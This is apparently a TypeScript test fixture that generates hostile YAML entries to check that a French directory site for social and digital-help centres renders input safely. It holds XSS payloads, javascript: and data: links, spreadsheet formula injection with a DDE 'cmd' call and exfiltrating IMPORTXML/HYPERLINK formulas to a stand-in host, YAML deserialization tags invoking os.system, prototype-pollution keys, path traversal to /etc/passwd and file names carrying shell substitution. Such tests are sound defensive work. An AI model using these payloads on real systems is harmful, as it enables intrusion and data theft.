/**
 * Entries that somebody might propose to break a guide, or those who read it: script in every field, links that run, texts that
 * no one sees, names of files that climb, YAML that grows, cells that compute. Each is a file that would be sound but for one thing.
 */

import { ficheWith } from "../reading/testing/fiche.ts";
import { LARGEST_YAML } from "../reading/text-file.ts";
import { bombs } from "./yaml-bombs.ts";

export interface HostileEntry {
  readonly name: string;
  /** In the content folder. */
  readonly fichier: string;
  readonly text: string;
}

/** Each sets `attaque` or asks for a file of elsewhere where it runs; a page that stays calm shows them as texts. */
const SCRIPTS = [
  "<script>window.attaque=1;alert(1)</script>",
  "</title></style></textarea></script><script>window.attaque=2</script>",
  "<img src=https://attaque.example/i onerror=window.attaque=3>",
  `"'><svg onload=window.attaque=4>`,
  "<iframe srcdoc='<script>parent.attaque=5</script>'></iframe>",
  "<a href=javascript:window.attaque=6>ici</a> {{constructor.constructor('window.attaque=7')()}}",
  "<base href=https://attaque.example/><link rel=stylesheet href=https://attaque.example/c>",
  `\${window.attaque=8} <%= attaque %> {% include "/etc/passwd" %}`,
  "<style>@import 'https://attaque.example/s'</style><meta http-equiv=refresh content=0;url=https://attaque.example>",
] as const;

/** Every text that anyone can write freely, with the YAML that holds it. */
const FREE_TEXTS: Readonly<Record<string, (value: string) => Readonly<Record<string, string>>>> = {
  nom: (value) => ({ nom: `nom: ${value}` }),
  statut: (value) => ({ x: `statut: ${value}` }),
  structure_parente: (value) => ({ x: `structure_parente: ${value}` }),
  presentation_resume: (value) => ({ x: `presentation_resume: ${value}` }),
  presentation_detail: (value) => ({ x: `presentation_detail: ${value}` }),
  adresse: (value) => ({ adresse: `adresse: ${value}` }),
  complement_adresse: (value) => ({ x: `complement_adresse: ${value}` }),
  transports: (value) => ({ x: `transports: [${value}]` }),
  horaires_precisions: (value) => ({ x: `horaires_precisions: ${value}` }),
  conditions_acces: (value) => ({ x: `conditions_acces: ${value}` }),
  demarche: (value) => ({ x: `demarche: ${value}` }),
  delai: (value) => ({ x: `delai: ${value}` }),
  tarifs: (value) => ({ x: `tarifs: ${value}` }),
  pieces_a_apporter: (value) => ({ x: `pieces_a_apporter: [${value}]` }),
  accompagnateurs: (value) => ({ x: `accompagnateurs: { precisions: ${value} }` }),
  materiel: (value) => ({ x: `materiel: [{ type: ordinateur, precisions: ${value} }]` }),
  acces_internet: (value) => ({ x: `acces_internet: { wifi: true, precisions: ${value} }` }),
  expertises_source: (value) => ({ x: `expertises_source: { statut: estimé, source: ${value} }` }),
  "rendez_vous_reguliers.titre": (value) => ({ x: `rendez_vous_reguliers: [{ titre: ${value} }]` }),
  "rendez_vous_reguliers.lieu": (value) => ({ x: `rendez_vous_reguliers: [{ titre: Atelier, lieu: ${value}, precisions: ${value} }]` }),
  "tournee.lieu": (value) => ({ x: `tournee: [{ lieu: ${value}, commune: Metz }]` }),
  "tournee.precisions": (value) => ({ x: `tournee: [{ lieu: Place, commune: Metz, precisions: ${value} }]` }),
  autres_formations_labels: (value) => ({ x: `autres_formations_labels: [${value}]` }),
  source: (value) => ({ x: `source: ${value}` }),
};

const SHORTEST_FIELDS = new Set(["statut"]);

const inQuotes = (text: string): string => JSON.stringify(text);

type Changes = Readonly<Record<string, string>>;
type Attack = readonly [name: string, changes: Changes];

/** Three of them in each field, one after the other: all meet all kinds of fields. */
const scripts: readonly Attack[] = Object.entries(FREE_TEXTS).flatMap(([field, write], rank) =>
  [0, 1, 2].map((turn): Attack => {
    const script = SCRIPTS[(rank + turn * 3) % SCRIPTS.length] ?? "";
    return [`${field}: ${script}`, write(inQuotes(SHORTEST_FIELDS.has(field) ? script.slice(0, 60) : script))];
  }),
);

const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\\tscript:alert(1)",
  "javascript&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://exemple.fr/1",
  "//attaque.example",
  "https://exemple.fr@attaque.example",
  "https://exemple.fr/\\nSet-Cookie: a",
  'https://exemple.fr/" onmouseover="alert(1)',
] as const;

const links: readonly Attack[] = ADDRESSES.flatMap((address): readonly Attack[] => [
  [`site_web ${address}`, { x: `site_web: ["${address.replaceAll('"', '\\"')}"]` }],
  [`prise_rdv ${address}`, { x: `prise_rdv: "${address.replaceAll('"', '\\"')}"` }],
  [`fiche_acces_libre ${address}`, { x: `fiche_acces_libre: "${address.replaceAll('"', '\\"')}"` }],
]);

const MARKDOWN = [
  "[ici](javascript:alert(1))",
  "[ici](JAVASCRIPT:alert(1))",
  "[ici](javascript&colon;alert(1))",
  "[ici](&#106;avascript:alert(1))",
  "[ici](data:text/html,<b>)",
  "[ici](vbscript:msgbox(1))",
  "[ici](<javascript:alert(1)>)",
  "[ici](file:///etc/passwd)",
  "[ici](//attaque.example)",
  "[ici]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<https://attaque.example onclick=alert(1)>",
  '[ici](https://exemple.fr "><script>alert(1)</script>")',
  "![image](https://attaque.example/i.png) <img src=https://attaque.example/i>",
  "<!-- --><script>window.attaque=9</script>",
  "<details open ontoggle=window.attaque=10>",
] as const;

const markdown: readonly Attack[] = MARKDOWN.map((text) => [`Markdown ${text}`, { x: `presentation_detail: |\n  Lire ${text} et après.\n\n  ${text}` }]);

const contacts: readonly Attack[] = [
  ...[
    "a@exemple.fr?bcc=tous@attaque.example",
    "a@exemple.fr%0ABcc:b@attaque.example",
    "accueil@exemple.fr\\r\\nBcc: b@attaque.example",
    '"<script>"@exemple.fr',
    "javascript:alert(1)@exemple.fr",
    "jeanne.martin@exemple.fr",
    "jeannemartin57@gmail.com",
  ].map((text): Attack => [`courriels ${text}`, { courriels: `courriels: ["${text.replaceAll('"', '\\"')}"]` }]),
  ...["06 12 34 56 78", "+33 7 12 34 56 78", "03 87 00 00 00;ext=1", "tel:0387000000", "0387000000<script>", "=0387000000", "08 99 00 00 00 00 00"].map(
    (text): Attack => [`telephone ${text}`, { telephone: `telephone: "${text}"` }],
  ),
  ...["Appeler Jeanne au 06 12 34 56 78", "Écrire à jeanne.martin@exemple.fr", "SMS au +33712345678", "j.martin@exemple.fr de préférence"].flatMap(
    (text): readonly Attack[] => [
      [`demarche ${text}`, { x: `demarche: ${inQuotes(text)}` }],
      [`horaires_precisions ${text}`, { x: `horaires_precisions: ${inQuotes(text)}` }],
    ],
  ),
];

/** What nobody sees on a screen: the sense of reading turned, letters of no width, ends of text. */
const UNSEEN = {
  "right to left override": "\u202e",
  "right to left isolate": "\u2067",
  "left to right mark": "\u200e",
  "arabic letter mark": "\u061c",
  "zero width space": "\u200b",
  "word joiner": "\u2060",
  "soft hyphen": "\u00ad",
  "byte order mark": "\ufeff",
  "line separator": "\u2028",
  tag: "\u{e0041}",
  nul: "\u0000",
  escape: "\u001b[2J",
  backspace: "\b",
  delete: "\u007f",
  "next line": "\u0085",
  "annotation anchor": "\ufff9",
} as const;

const unseen: readonly Attack[] = Object.entries(UNSEEN).flatMap(([name, character]): readonly Attack[] => [
  [`${name} in a name`, { nom: `nom: Centre${character} social` }],
  [`${name} in an address, between quotes`, { adresse: `adresse: "12 rue${character} des Tilleuls"` }],
]);

const FORMULAS = [
  '=HYPERLINK("https://attaque.example?"&A1;"ici")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://attaque.example","//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1",
] as const;

const formulas: readonly Attack[] = FORMULAS.flatMap((formula): readonly Attack[] => [
  [`nom ${formula}`, { nom: `nom: ${inQuotes(formula)}` }],
  [`adresse ${formula}`, { adresse: `adresse: ${inQuotes(formula)}` }],
  [`tarifs ${formula}`, { x: `tarifs: ${inQuotes(formula)}` }],
]);

const YAML_TRICKS = {
  "an anchor": "nom: &a Centre",
  "an alias": "nom: *a",
  "a tag of JavaScript": 'nom: !!js/function "function () { attaque = 1 }"',
  "a tag of Python": "nom: !!python/object/apply:os.system [ls]",
  "a tag of one's own": "nom: !attaque Centre",
  "a merge key": "<<: { nom: Centre }",
  "a prototype": "__proto__: { attaque: true }",
  "a prototype between quotes": '"__proto__": { attaque: true }',
  "a constructor": "constructor: { prototype: { attaque: true } }",
  "a method": "toString: attaque",
  "a second document": "---\nnom: Autre",
  "a directive": "%YAML 1.2\n---",
  "the same key twice": "nom: Autre",
  "a key that is a list": "? [a, b]\n: c",
  "a key that is a group": "? { a: b }\n: c",
  "an included file": "nom: !include /etc/passwd",
  binary: "presentation_resume: !!binary aGVsbG8=",
  "a set": "publics: !!set { ? adultes }",
  "a date typed": "date_maj: !!timestamp 2026-01-01",
  "an unknown key": "onload: alert(1)",
} as const;

const yamlTricks: readonly Attack[] = Object.entries(YAML_TRICKS).map(([name, line]) => [`YAML: ${name}`, { x: line }]);

const WORDS = {
  "a territory that climbs": { territoire: "territoire: ../../../etc" },
  "a territory with a slash": { territoire: "territoire: borny/../sud" },
  "a territory of nobody": { territoire: "territoire: attaque" },
  "a territory that is a script": { territoire: 'territoire: "<script>alert(1)</script>"' },
  "a former name that climbs": { x: "anciens_noms: [../../index]" },
  "a former name with a line end": { x: 'anciens_noms: ["a\\nb"]' },
  "a former name that is an address": { x: "anciens_noms: [https://attaque.example]" },
  "a former name with a quote": { x: `anciens_noms: ['a"b']` },
  "a kind of place that is a script": { typologie: 'typologie: ["<script>"]' },
  "a service that is a prototype": { expertises: 'expertises:\n  "__proto__": expert' },
  "a service that is a script": { expertises: 'expertises:\n  "<img src=x onerror=alert(1)>": expert' },
  "a level of nobody": { expertises: "expertises:\n  messagerie: ★★★★★" },
  "an audience that is a script": { x: 'publics: ["<svg onload=alert(1)>"]' },
  "a kind of equipment that is a script": { x: 'materiel: [{ type: "<script>" }]' },
  "a number without end": { x: `accompagnateurs: { salaries: ${"9".repeat(400)} }` },
  "a number that is not one": { x: "accompagnateurs: { salaries: NaN }" },
  "a latitude without end": { x: "latitude: 1e999\nlongitude: 6.1" },
  "a latitude elsewhere": { x: "latitude: 4.9e9\nlongitude: 6.1" },
  "hours that are a script": { horaires: 'horaires: "<script>alert(1)</script>"' },
  "hours without end": { horaires: `horaires: "${"Mo 09:00-10:00; ".repeat(60)}"` },
  "hours of 99 o'clock": { horaires: 'horaires: "Mo 99:00-100:00"' },
  "a date of 9999": { date_maj: "date_maj: 9999-12-31" },
  "a date that is a script": { date_maj: 'date_maj: "2026-01-01<script>"' },
  "a postcode that is a script": { code_postal: 'code_postal: "<b>57</b>"' },
  "a commune that is a script": { commune: 'commune: "<script>alert(1)</script>"' },
  "a SIRET that is a script": { pivot: `pivot: "'; DROP TABLE"` },
} as const;

const words: readonly Attack[] = Object.entries(WORDS);

const HUGE = ["nom", "adresse", "tarifs", "demarche", "presentation_resume", "conditions_acces", "source", "delai"] as const;

const huge: readonly Attack[] = HUGE.map((field) => [`huge ${field}`, FREE_TEXTS[field]?.(inQuotes("très ".repeat(4_000))) ?? {}]);

/** Sound texts in files whose name is the attack. */
const FILE_NAMES = [
  "structures/borny/<img src=x onerror=alert(1)>.yaml",
  "structures/borny/..%2f..%2findex.yaml",
  "structures/borny/....yaml",
  "structures/borny/a b.yaml",
  "structures/borny/a\nb.yaml",
  "structures/borny/-rf.yaml",
  "structures/borny/$(touch attaque).yaml",
  "structures/borny/a;b.yaml",
  "structures/borny/É.yaml",
  "structures/borny/a\u202eb.yaml",
  "structures/borny/index.html.yaml",
  "structures/borny/__proto__.yaml",
  "structures/borny/a.yaml.exe",
  "structures/borny/A.YAML",
  "structures/borny/a.yml",
  "structures/borny/sous/dossier.yaml",
  "structures/attaque/centre.yaml",
  "structures/<script>/centre.yaml",
  "structures/centre.yaml",
  `structures/borny/${"a".repeat(200)}.11ty.js`,
] as const;

const numbered = (attacks: readonly Attack[], kind = "hostile"): readonly HostileEntry[] =>
  attacks.map(([name, changes], rank) => ({
    name,
    fichier: `structures/borny/${kind}-${rank + 1}.yaml`,
    // Names apart: only the attack is to be said of the entry.
    text: ficheWith({ nom: `nom: Centre ${kind} ${rank + 1}`, adresse: `adresse: ${rank + 1} rue des Tilleuls`, telephone: "", ...changes }),
  }));

/** Sound entries, but in each text a word that nothing cuts: it would push a page off a telephone, and a line off the paper. */
export const endlessWords: readonly HostileEntry[] = numbered(
  Object.entries(FREE_TEXTS).map(([field, write]) => [
    `a word without end in ${field}`,
    write(inQuotes("Mississippi".repeat(SHORTEST_FIELDS.has(field) ? 5 : 10))),
  ]),
  "sans-fin",
);

const bombEntries: readonly HostileEntry[] = Object.entries(bombs(LARGEST_YAML)).map(([name, text], rank) => ({
  name: `YAML bomb: ${name}`,
  fichier: `structures/borny/bombe-${rank + 1}.yaml`,
  text,
}));

export const hostileCorpus: readonly HostileEntry[] = [
  ...numbered([...scripts, ...links, ...markdown, ...contacts, ...unseen, ...formulas, ...yamlTricks, ...words, ...huge]),
  ...FILE_NAMES.map((fichier) => ({
    name: `file ${JSON.stringify(fichier)}`,
    fichier,
    text: ficheWith({ nom: "nom: Centre au nom de fichier hostile", pivot: "" }),
  })),
  ...bombEntries,
];
